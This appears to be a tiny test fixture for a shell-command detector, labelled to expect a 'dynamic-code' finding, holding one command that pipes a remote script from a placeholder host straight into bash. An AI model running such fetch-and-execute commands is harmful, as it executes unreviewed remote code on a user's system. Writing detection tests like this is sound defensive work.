# expect: dynamic-code
bash <(curl -s https://example.org/x.sh)
